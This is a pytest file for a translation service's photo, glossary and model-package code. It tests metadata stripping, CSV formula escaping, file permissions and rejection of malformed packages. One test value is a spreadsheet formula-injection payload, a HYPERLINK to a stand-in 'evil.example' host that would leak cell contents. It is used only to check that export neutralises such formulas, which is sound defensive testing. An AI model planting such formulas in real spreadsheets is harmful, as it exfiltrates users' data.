"""Issue 16: only pixels leave with a photo, spreadsheet-safe glossary export, private instance files."""

import csv
import io
import json
import logging
import os
import shutil
import sqlite3
import stat
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from PIL import Image
from PIL import ImageCms
from PIL import PngImagePlugin

from feedsvc import photos
from feedsvc.modelstore import packages
from feedsvc.settings import WorkerSettings
from feedsvc.storage import connect
from feedsvc.translation import glossary
from feedsvc.translation import worker
from feedsvc.web import create_app
from tests.helpers import HANG_SECONDS
from tests.helpers import make_release
from tests.helpers import migrated

ROOT = Path(__file__).resolve().parent.parent

MARKERS = (b"PLANTED-COMMENT", b"PLANTED-EXIF", b"PLANTED-XMP", b"PLANTED-TEXT", b"PLANTED-ITXT", b"PLANTED-ICC")


def planted_icc() -> bytes:
    """A real sRGB profile with a marker in its description, as a camera or an attacker could write."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    return profile.tobytes() + b"PLANTED-ICC"  # trailing bytes: littlecms still reads the profile


def planted_exif() -> Image.Exif:
    """EXIF with an image description and GPS-like data carrying a marker."""
    exif = Image.Exif()
    exif[0x010E] = "PLANTED-EXIF"  # ImageDescription
    exif[0x8298] = "PLANTED-EXIF copyright"
    return exif


def planted_image(fmt: str) -> bytes:
    """A 64×48 image of ``fmt`` with every metadata kind the format can carry, each holding a marker."""
    image = Image.new("RGB", (64, 48), (200, 30, 40))
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">PLANTED-XMP</x:xmpmeta>'
    if fmt == "JPEG":
        image.save(out, "JPEG", comment=b"PLANTED-COMMENT", exif=planted_exif(), icc_profile=planted_icc())
    elif fmt == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "PLANTED-TEXT")
        info.add_itxt("Description", "PLANTED-ITXT", lang="en", tkey="d")
        image.save(out, "PNG", pnginfo=info, icc_profile=planted_icc(), exif=planted_exif())
    else:
        image.save(out, "WEBP", exif=planted_exif(), xmp=xmp, icc_profile=planted_icc())
    data = out.getvalue()
    assert sum(marker in data for marker in MARKERS) >= 3, "the planted file must carry the markers"
    return data


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_stored_photo_carries_no_metadata_and_still_decodes(tmp_path, fmt):
    saved = photos.save_photo(planted_image(fmt), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    stored = (tmp_path / saved["photo"]).read_bytes()
    assert [marker for marker in MARKERS if marker in stored] == []
    with Image.open(io.BytesIO(stored)) as image:
        image.load()
        assert (image.format, image.size) == (fmt, (64, 48))
        assert not {"icc_profile", "exif", "comment", "xmp", "XML:com.adobe.xmp"} & set(image.info)
        assert not image.getexif()
    sizes = photos.sizes_of(saved["photo_sizes"])
    assert {size["type"] for size in sizes} == {"image/webp", "image/jpeg"}
    for size in sizes:  # the responsive sizes are made from the pixels alone too
        data = (tmp_path / size["name"]).read_bytes()
        assert [marker for marker in MARKERS if marker in data] == [], size
        with Image.open(io.BytesIO(data)) as image:
            assert not {"icc_profile", "exif", "comment", "xmp", "XML:com.adobe.xmp"} & set(image.info)


def linear_rgb_profile() -> bytes:
    """A minimal ICC v2 RGB profile: sRGB primaries with linear (gamma 1.0) curves, so converting changes pixels."""
    def xyz(x: float, y: float, z: float) -> bytes:
        """An XYZType tag."""
        return b"XYZ \0\0\0\0" + b"".join(struct.pack(">i", round(v * 65536)) for v in (x, y, z))

    curve = b"curv\0\0\0\0" + struct.pack(">IH", 1, 256) + b"\0\0"  # gamma 1.0, padded to 4 bytes
    tags = [(b"wtpt", xyz(0.9642, 1.0, 0.8249)), (b"rXYZ", xyz(0.4361, 0.2225, 0.0139)),
            (b"gXYZ", xyz(0.3851, 0.7169, 0.0971)), (b"bXYZ", xyz(0.1431, 0.0606, 0.7141)),
            (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve)]
    offset, table, data = 128 + 4 + 12 * len(tags), b"", b""
    for signature, body in tags:
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    size = offset + len(data)
    header = (struct.pack(">I", size) + b"lcms" + struct.pack(">I", 0x02100000) + b"mntrRGB XYZ " + bytes(12)
              + b"acsp" + bytes(24) + struct.pack(">I", 0) + xyz(0.9642, 1.0, 0.8249)[8:] + bytes(48))
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data


def test_colours_are_converted_to_srgb_before_the_profile_is_dropped(tmp_path):
    profile = ImageCms.ImageCmsProfile(io.BytesIO(linear_rgb_profile()))
    image = Image.new("RGB", (8, 8), (128, 64, 32))
    out = io.BytesIO()
    image.save(out, "PNG", icc_profile=linear_rgb_profile())
    expected = ImageCms.profileToProfile(image, profile, ImageCms.createProfile("sRGB")).getpixel((0, 0))
    saved = photos.save_photo(out.getvalue(), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    with Image.open(tmp_path / saved["photo"]) as stored:
        assert "icc_profile" not in stored.info
        assert stored.getpixel((0, 0)) == expected
    assert expected[0] > 150  # linear 128 is a light tone in sRGB: the conversion happened


def test_photo_with_an_unusable_profile_is_stored_without_it(tmp_path):
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "PNG", icc_profile=b"PLANTED-ICC not a profile at all")
    saved = photos.save_photo(out.getvalue(), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    stored = (tmp_path / saved["photo"]).read_bytes()
    assert b"PLANTED-ICC" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getpixel((0, 0)) == (1, 2, 3)


# --- glossary export: no formulas reach a spreadsheet --------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "'=already quoted",
            "''+two quotes", "it's = fine", "'plain quote")


def test_glossary_export_neutralises_formulas_and_import_gives_them_back(db):
    for number, text in enumerate(FORMULAS):
        glossary.save_term(db, f"термин{number}", {"en": text, "kk": text})
    exported = glossary.export_csv(db)
    rows = list(csv.reader(io.StringIO(exported)))[1:]
    for row in rows:
        for cell in row[1:]:
            assert not cell.startswith(glossary.FORMULA_STARTS), cell
    assert rows[0][1] == "'" + FORMULAS[0] and rows[5][1] == "'''+two quotes" and rows[7][1] == "'plain quote"
    before = [(t.source, t.targets) for t in glossary.load_terms(db)]
    db.execute("delete from glossary_terms")
    assert glossary.import_csv(db, exported) == len(FORMULAS)
    assert [(t.source, t.targets) for t in glossary.load_terms(db)] == before


@pytest.mark.parametrize(("text", "cell"), [("=1+2", "'=1+2"), ("-ish", "'-ish"), ("@x", "'@x"), ("\tx", "'\tx"),
                                            ("'=x", "''=x"), ("a=b", "a=b"), ("'a", "'a"), ("", "")])
def test_escape_rule_is_reversible(text, cell):
    assert glossary.escape_cell(text) == cell
    assert glossary.unescape_cell(cell) == text


# --- instance files: readable by the service account only ---------------------------------------------------------


def mode(path) -> int:
    """A file's permission bits."""
    return stat.S_IMODE(os.stat(path).st_mode)


# Run in a fresh process: umask 0 (files world-writable by default) applies to it alone. Flask takes the
# instance folder from its constructor only, hence the subclass.
PERMISSIONS_SCRIPT = """
import json, os, stat, sys
import flask
os.umask(0)
original = flask.Flask.__init__
flask.Flask.__init__ = lambda self, *a, **k: original(self, *a, **{**k, "instance_path": sys.argv[1]})
from feedsvc.web import create_app
from feedsvc.storage import connect
app = create_app({"TESTING": True, "DATABASE": os.path.join(sys.argv[1], "feedsvc.db")}, check_schema=False)
db = connect(app.config["DATABASE"])
db.execute("create table t (x)")
db.execute("insert into t values (1)")
paths = [sys.argv[1]] + [app.config["DATABASE"] + suffix for suffix in ("", "-wal", "-shm")]
print(json.dumps([oct(stat.S_IMODE(os.stat(path).st_mode)) for path in paths]))
"""


def test_database_and_its_wal_files_are_0600_and_the_instance_folder_0700_whatever_the_umask(tmp_path):
    instance = tmp_path / "instance"
    done = subprocess.run([sys.executable, "-c", PERMISSIONS_SCRIPT, str(instance)], capture_output=True,
                          text=True, cwd=str(ROOT))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == ["0o700", "0o600", "0o600", "0o600"]


# Photos are for nginx's group (README "Production"), Argos's data for the service account alone, whatever the umask.
MODES_SCRIPT = """
import json, os, stat, sys
os.umask(int(sys.argv[2], 8))
from feedsvc import photos
from feedsvc.demo import demo_photo
from feedsvc.web import create_app
from feedsvc.translation.engine import prepare_environment
from tests.helpers import migrated
base = sys.argv[1]
app = create_app(migrated({"TESTING": True, "DATABASE": os.path.join(base, "f.db"),
                           "UPLOAD_FOLDER": os.path.join(base, "up")}))
stored = photos.save_photo(demo_photo(0), app.config["UPLOAD_FOLDER"], max_bytes=10**7, max_pixels=10**7)
prepare_environment(os.path.join(base, "argos"), os.path.join(base, "models"))
paths = [app.config["UPLOAD_FOLDER"], os.path.join(app.config["UPLOAD_FOLDER"], stored["photo"]),
         os.path.join(base, "argos")]
print(json.dumps([oct(stat.S_IMODE(os.stat(path).st_mode)) for path in paths]))
"""


@pytest.mark.parametrize("umask", ["000", "022", "077"])
def test_uploads_are_0750_with_0640_photos_and_argos_data_0700_whatever_the_umask(tmp_path, umask):
    done = subprocess.run([sys.executable, "-c", MODES_SCRIPT, str(tmp_path), umask], capture_output=True,
                          text=True, cwd=str(ROOT))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [oct(photos.FOLDER_MODE), oct(photos.FILE_MODE), "0o700"]


def test_an_uploads_folder_the_operator_made_keeps_its_group_and_mode(tmp_path):
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    uploads.chmod(0o2750)  # README: install -d -g www-data -m 2750
    create_app(migrated({"TESTING": True, "DATABASE": str(tmp_path / "f.db"), "UPLOAD_FOLDER": str(uploads)}))
    assert mode(uploads) == 0o2750


def test_an_existing_world_readable_database_is_made_private_on_open(tmp_path):
    path = tmp_path / "old.db"
    sqlite3.connect(path).close()
    path.chmod(0o644)
    connect(str(path)).close()
    assert mode(path) == 0o600


# --- model packages: a malformed one is refused at install, set aside when found in models/ -----------------------

GOOD_METADATA = {"package_version": "1.0", "from_code": "ru", "to_code": "en", "type": "translate"}


def package_with(tmp_path: Path, metadata: bytes, top: str = "translate-bad") -> Path:
    """An .argosmodel whose metadata.json holds ``metadata`` (a model folder beside it)."""
    path = tmp_path / f"{top}.argosmodel"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{top}/metadata.json", metadata)
        archive.writestr(f"{top}/model/model.bin", b"weights")
    return path


BAD_METADATA = {
    "from_code not text": ({**GOOD_METADATA, "from_code": 5}, "from_code"),
    "to_code a list": ({**GOOD_METADATA, "to_code": ["en"]}, "to_code"),
    "to_code with markup": ({**GOOD_METADATA, "to_code": "<b>en</b>"}, "to_code"),
    "version an object": ({**GOOD_METADATA, "package_version": {"a": 1}}, "package_version"),
    "version too long": ({**GOOD_METADATA, "package_version": "1" * 100}, "package_version"),
    "prefix not text": ({**GOOD_METADATA, "source_prefix": 3}, "source_prefix"),
    "not an object": (["ru", "en"], "not a JSON object"),
    "missing from_code": ({"to_code": "en"}, "from_code"),
}


@pytest.mark.parametrize("case", sorted(BAD_METADATA))
def test_package_with_malformed_metadata_is_refused_at_install(tmp_path, app, runner, case):
    metadata, named = BAD_METADATA[case]
    archive = package_with(tmp_path, json.dumps(metadata).encode())
    models_dir = Path(app.config["MODELS_DIR"])
    with pytest.raises(packages.InvalidPackage, match=named):
        packages.install_file(models_dir, archive)
    result = runner.invoke(args=["models", "install", str(archive)])
    assert result.exit_code != 0 and named in result.output
    assert [p.name for p in models_dir.iterdir()] == []


def test_oversized_metadata_is_refused_before_it_is_parsed(tmp_path, app, monkeypatch):
    parsed = []
    monkeypatch.setattr(packages.json, "loads", lambda text: parsed.append(len(text)))
    big = b'{"from_code": "ru", "pad": "' + b"x" * packages.MAX_METADATA_BYTES + b'"}'
    with pytest.raises(packages.InvalidPackage, match="larger than 64 KiB"):
        packages.install_file(app.config["MODELS_DIR"], package_with(tmp_path, big))
    folder = Path(app.config["MODELS_DIR"], "translate-big")  # one put there by hand (or a lying zip header)
    (folder / "model").mkdir(parents=True)
    (folder / "metadata.json").write_bytes(big)
    assert packages.scan_packages(app.config["MODELS_DIR"])[1][0].error.endswith("larger than 64 KiB")
    assert parsed == []


@pytest.mark.parametrize(("text", "line"), [
    ('ru,en,kk\nСенат*,Senate,Сенат\n"Парламент*,Parliament,Парламент\nПалата*,Chamber,Палата\n', 3),
    ('ru,en,kk\n"Сенат" Парламента,Senate,Сенат\n', 2),
])
def test_a_glossary_csv_with_a_quote_left_open_is_refused_naming_its_line(db, runner, tmp_path, text, line):
    glossary.save_term(db, "Мажилис*", {"en": "Mazhilis", "kk": "Мәжіліс"})
    with pytest.raises(glossary.BadGlossary, match=f"^line {line}: a quote is not closed properly"):
        glossary.import_csv(db, text)
    path = tmp_path / "glossary.csv"
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(args=["glossary", "import", str(path)])
    assert result.exit_code == 1 and f"line {line}: a quote is not closed" in result.output, result.output
    assert [term.source for term in glossary.load_terms(db)] == ["Мажилис*"]  # nothing merged, nothing lost


def test_a_fifo_or_device_link_as_metadata_is_a_damaged_folder_not_a_hang(tmp_path, app, models):
    root = Path(app.config["MODELS_DIR"])
    source = next(p for p in models if p.to_code == "kk").path
    for name in ("translate-fifo", "translate-zero"):
        shutil.copytree(source, root / name)
        (root / name / "metadata.json").unlink()
    os.mkfifo(root / "translate-fifo" / "metadata.json")  # opening it for reading would wait for a writer
    (root / "translate-zero" / "metadata.json").symlink_to("/dev/zero")  # reading it would never end
    env = {**os.environ, "FEEDSVC_DATABASE": app.config["DATABASE"], "FEEDSVC_UPLOAD_FOLDER": str(tmp_path / "up"),
           "FEEDSVC_MODELS_DIR": str(root), "FEEDSVC_ARGOS_HOME": app.config["ARGOS_HOME"]}
    result = subprocess.run([sys.executable, "-m", "feedsvc.commands", "models", "list"], env=env,
                            capture_output=True, text=True, timeout=HANG_SECONDS)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    listing = result.stdout + result.stderr
    assert "translate-fifo: metadata.json is not a regular file" in listing, listing
    assert "translate-zero: metadata.json is a symbolic link" in listing
    installed, broken = packages.scan_packages(root)
    assert {p.name for p in installed} == {p.name for p in models}
    assert sorted(b.name for b in broken) == ["translate-fifo", "translate-zero"]


@pytest.fixture
def damaged(app, models):
    """The demo models plus a package folder whose metadata.json has a number as its source language."""
    source = next(p for p in models if p.to_code == "kk").path
    folder = Path(app.config["MODELS_DIR"], "translate-damaged")
    shutil.copytree(source, folder)
    metadata = json.loads((folder / "metadata.json").read_text())
    (folder / "metadata.json").write_text(json.dumps({**metadata, "from_code": 5}))
    return folder


def test_damaged_folder_is_listed_with_its_error_and_can_be_removed(app, runner, logged_in, damaged):
    installed, broken = packages.scan_packages(app.config["MODELS_DIR"])
    assert len(installed) == 2 and [b.name for b in broken] == ["translate-damaged"]
    page = logged_in.get("/admin/models/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "translate-damaged: metadata.json: from_code must be text" in html and "ru→kk" in html
    listed = runner.invoke(args=["models", "list"])
    assert listed.exit_code == 0, listed.output
    assert "damaged, skipped: translate-damaged" in listed.output and "ru→kk: pivot" in listed.output
    removed = runner.invoke(args=["models", "remove", "translate-damaged"])
    assert removed.exit_code == 0 and not damaged.exists()


def test_worker_skips_a_damaged_folder_translates_on_and_logs_it_once_per_change(app, db, engine, terms, damaged,
                                                                                 caplog):
    settings = WorkerSettings(models_dir=app.config["MODELS_DIR"])
    state = worker.WorkerState()  # one worker's memory across its runs, as across the batches of one run
    make_release(db)
    with caplog.at_level(logging.ERROR, logger="feedsvc.worker"):
        assert worker.run(db, engine.translate, settings, once=True, state=state) == 2
        make_release(db, title="Второй пресс-релиз")
        assert worker.run(db, engine.translate, settings, once=True, state=state) == 2
        assert [r.getMessage() for r in caplog.records].count(skipped_message(damaged)) == 1
        (damaged / "metadata.json").write_text('{"from_code": "ru", "to_code": 7}')
        make_release(db, title="Третий пресс-релиз")
        worker.run(db, engine.translate, settings, once=True, state=state)
    messages = [r.getMessage() for r in caplog.records]
    assert len(messages) == 2 and "to_code" in messages[1]
    statuses = [row["status"] for row in db.query("select status from translations")]
    assert len(statuses) == 6 and set(statuses) <= {"done", "held"}  # translated (held: the demo model is tiny)


def skipped_message(folder: Path) -> str:
    """The worker's log line for a damaged package folder (as packages.scan_packages words the error)."""
    error = packages.scan_packages(folder.parent)[1][0].error
    return f"package folder skipped: {error} (repair it, or: feedsvc models remove {folder.name})"
